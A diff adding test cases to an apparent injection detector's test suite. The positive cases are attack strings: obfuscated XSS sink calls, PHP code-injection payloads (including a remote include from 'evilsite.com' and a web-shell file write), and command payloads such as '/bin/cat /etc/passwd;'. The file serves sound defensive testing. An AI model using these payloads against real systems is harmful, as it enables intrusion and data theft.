@@ -731,3 +731,22 @@ t.test("sqli (tenth round): Oracle's block around a delay", async (t) => {
   for (const p of ['1));begin dbms_lock.sleep(5); end--', ';BEGIN USER_LOCK.SLEEP(5); END']) t.ok(q(p).includes('sqli'), p)
   for (const p of ['begin dbms_lock', 'begin; the work; end']) t.notOk(q(p).includes('sqli'), p)
 })
+
+t.test('xss (eleventh round): a property named by strings that spell a script sink, called or walked', async (t) => {
+  for (const p of ["top['al'+k+'rt'](1)", "window[['a'][0] + 'lert'](1337)", "self[/*foo*/'alert'/*bar*/](self['document']['domain'])", "';parent['ale'+'rt'](parent['doc'+'ument']['dom'+'ain']);//", "(this)[new Array+('eva')+new Array+ 'l'](name)", "[]['constructor']['constructor']('alert(1)')()", 'this[x+`ert`](1)']) t.ok(q(p).includes('xss'), p)
+  // a handler's name put together, a tag manager's call, a sink's name not called, a dictionary lookup
+  for (const p of ["x = this['on' + type](e)", "x = window['gtag']('config')", "x = top['al' + 'rt'].length", "const v = map['pro' + 'ps'](k)", "x = obj['a' + 'b'](1)"]) t.notOk(q(p).includes('xss'), p)
+})
+
+t.test('rce (eleventh round): PHP code injected, judged as PHP statements', async (t) => {
+  for (const p of ["<?php system('id'); ?>", '<?=`{${~"\\xa0\\xb8\\xba\\xab"}["\\xa0"]}`;', '"; $_a=(! \'a\') . "php"; $_a.=(! \'a\') . "info"; $_a(1); $b="', '; e|$a=&$_GET; 0|$b=!a .$a[b];$a[a](`$b`);//', '; include "http://evilsite.com/evilcode"', ';echo file_get_contents(implode(DIRECTORY_SEPARATOR, array("usr")))', "a;exit(md5('w4p1t1_md5'));//", '$file = fopen("pshell.php", "w"); echo fwrite($file, "x"); fclose($file)', 'data:;base64,PD9waHAgZWNobyAndzRwMXQxJywnX2V2YWwnOyA/Pg==']) t.ok(q(p).includes('rce'), p)
+  // a template including its header, a variable function in code, a Python copy, a log file opened, a local include
+  for (const p of ["<?php include('header.php'); ?>", '<?php echo $title; ?>', '$x = 1; $f($x);', "shutil.copy('a', 'b')", '$fp = fopen("log.txt", "w");', "; include 'footer.php'", 'a; b = c; d(e)']) t.notOk(q(p).includes('rce'), p)
+})
+
+t.test('rce (eleventh round): a program by its path in a system directory, a ping given a count or an interval', async (t) => {
+  for (const p of ['/bin/ls -al', '/usr/bin/id', '/usr/bin/id;', '/usr/bin/id|', '/bin/cat /etc/passwd;', 'ping -i 30 127.0.0.1', 'ping.exe -n 31 127.0.0.1', 'ping -c 3 10.0.0.1']) t.ok(q(p).includes('rce'), p)
+  // a login shell or an interpreter's path alone (a setting), a ping of a host named in a search, a plain ping
+  for (const p of ['/bin/bash', '/usr/bin/python3', '/usr/local/bin/node', '/usr/bin/env', 'ping google.com', 'ping 127.0.0.1', 'ping -c 3 my router']) t.notOk(q(p).includes('rce'), p)
+  t.notOk(detector.detect({ ...base, path: '/bin/ls' }).includes('rce'), 'a path segment without a blank')
+})
